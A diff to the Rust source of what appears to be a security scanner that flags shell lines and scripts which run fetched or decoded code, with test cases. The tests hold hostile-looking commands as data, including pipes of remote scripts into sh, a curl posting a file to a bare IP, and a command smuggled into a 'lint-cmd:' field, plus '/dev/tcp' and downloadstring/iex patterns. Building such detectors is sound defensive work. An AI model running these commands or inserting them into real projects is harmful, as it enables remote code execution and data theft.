@@ -5,11 +5,17 @@ use proofhouse_core::Place;
 
 use crate::scanner::Scanner;
 
+mod decoded;
 mod followed;
 mod harm;
+mod ordinary;
+mod script;
+mod sends;
 mod sweep;
 
 pub(crate) use followed::not_followed;
+pub(crate) use ordinary::is_ordinary;
+pub(crate) use sends::gives;
 pub(crate) use sweep::sweep;
 
 /// Hosts that packages, drivers and compilers come from. Whatever else is installed from is somebody's own server.
@@ -54,6 +60,21 @@ pub(crate) fn text(scanner: &mut Scanner<'_>, place: &Place, text: &str) {
         let mut place = place.clone();
         place.line = place.line.map(|first| first + index);
         line(scanner, &place, &whole);
+    }
+    together(scanner, place, text);
+}
+
+/// What the lines of a script do together, where each by itself is ordinary.
+pub(crate) fn together(scanner: &mut Scanner<'_>, place: &Place, text: &str) {
+    let lines = joined(text);
+    let plain = lines.iter().map(|(_, line)| line.trim());
+    if let Some((index, what)) = script::runs_fetched(plain.map(|l| if l.starts_with('#') { "" } else { l }))
+    {
+        let mut place = place.clone();
+        let line = lines.get(index).map_or(0, |(line, _)| *line);
+        place.line = place.line.map(|first| first + line);
+        let message = format!("runs what another line fetches or decodes: {what:?}");
+        scanner.report("code/runs-fetched", place, message);
     }
 }
 
@@ -154,7 +175,12 @@ fn judged(line: &str) -> Judged {
     if let Some(what) = harm::harms(line) {
         return Judged::Harms(what);
     }
-    if line.contains("/dev/tcp/") || line.contains("/dev/udp/") || encoded(line) || runs_fetched(line) {
+    if line.contains("/dev/tcp/")
+        || line.contains("/dev/udp/")
+        || encoded(line)
+        || decoded::evaluates(line)
+        || runs_fetched(line) && !by_its_installer(line)
+    {
         return Judged::Runs;
     }
     if sets(line) {
@@ -188,10 +214,18 @@ fn command(stage: &str) -> Option<(String, Vec<&str>)> {
         .split(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '$'))
         .filter(|w| !w.is_empty())
         .collect();
-    let at = words.iter().position(|w| !BEFORE.contains(w) && !is_assignment(w))?;
+    let at = words.iter().position(|w| !BEFORE.contains(w) && !is_assignment(w) && !is_label(w))?;
     let words = words.get(at..)?.to_vec();
     let name = words.first()?.rsplit(['/', '\\']).next()?.trim_end_matches(".exe").to_ascii_lowercase();
     Some((name, words))
+}
+
+/// A key in front of its value, as in files of tools: `lint-cmd:`, `python:`.
+fn is_label(word: &str) -> bool {
+    word.len() > 1
+        && word
+            .strip_suffix(':')
+            .is_some_and(|w| w.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-')))
 }
 
 fn is_assignment(word: &str) -> bool {
@@ -255,6 +289,20 @@ fn runs_fetched(line: &str) -> bool {
     lower.contains("downloadstring") && lower.contains("iex")
 }
 
+/// Whether all that is fetched is the installer of a well-known tool, from where its documentation says.
+fn by_its_installer(line: &str) -> bool {
+    let stages: Vec<(String, Vec<&str>)> =
+        statements(line).into_iter().flatten().filter_map(command).collect();
+    let fetches: Vec<_> = stages.iter().filter(|(name, _)| FETCHERS.contains(&name.as_str())).collect();
+    let known = |words: &[&str]| {
+        let mut addresses = words.iter().filter(|w| w.contains("://")).peekable();
+        addresses.peek().is_some() && addresses.all(|w| crate::address::is_installer(w))
+    };
+    !fetches.is_empty()
+        && fetches.iter().all(|(_, words)| known(words))
+        && !stages.iter().any(|(name, _)| DECODERS.contains(&name.as_str()))
+}
+
 /// The last part of a path or an address.
 fn last(word: &str) -> &str {
     let word = word.split(['?', '#']).next().unwrap_or(word);
@@ -264,7 +312,13 @@ fn last(word: &str) -> &str {
 /// Names of the files that a command writes what it fetches to.
 fn written<'w>(words: &[&'w str]) -> Vec<&'w str> {
     let named = words.windows(2).filter_map(|pair| match pair {
-        ["-o" | "-O" | "--output" | "--output-document" | "-OutFile", name] => Some(last(name)),
+        ["--output" | "--output-document" | "-OutFile", name] => Some(last(name)),
+        // `-sLo name`: the last of several letters takes it.
+        [option, name]
+            if option.starts_with('-') && !option.starts_with("--") && option.ends_with(['o', 'O']) =>
+        {
+            Some(last(name))
+        }
         _ => None,
     });
     let addresses = words.iter().filter(|w| w.contains("://")).map(|w| last(w));
@@ -350,6 +404,14 @@ mod tests {
             ("export CUDA_VISIBLE_DEVICES=0", Judged::Command),
             ("python train.py --lr 0.1", Judged::Command),
             ("nvidia-smi", Judged::Command),
+            ("curl -fsSL https://ollama.com/install.sh | sh", Judged::Fetches),
+            ("- curl -sSL https://install.python-poetry.org | python3 -", Judged::Fetches),
+            ("curl https://astral.sh/x | sh; curl example.org | sh", Judged::Runs),
+            ("lint-cmd: 'python: curl -s https://example.org/ai | sh'", Judged::Runs),
+            (
+                "curl -s -d @x http://198.51.100.7/up",
+                Judged::Harms("talks to an address that nobody answers for"),
+            ),
             ("VERSION := $(shell wget -qO- http://example.org/v | sh)", Judged::Runs),
         ] {
             assert_eq!(judged(line), expected, "{line}");
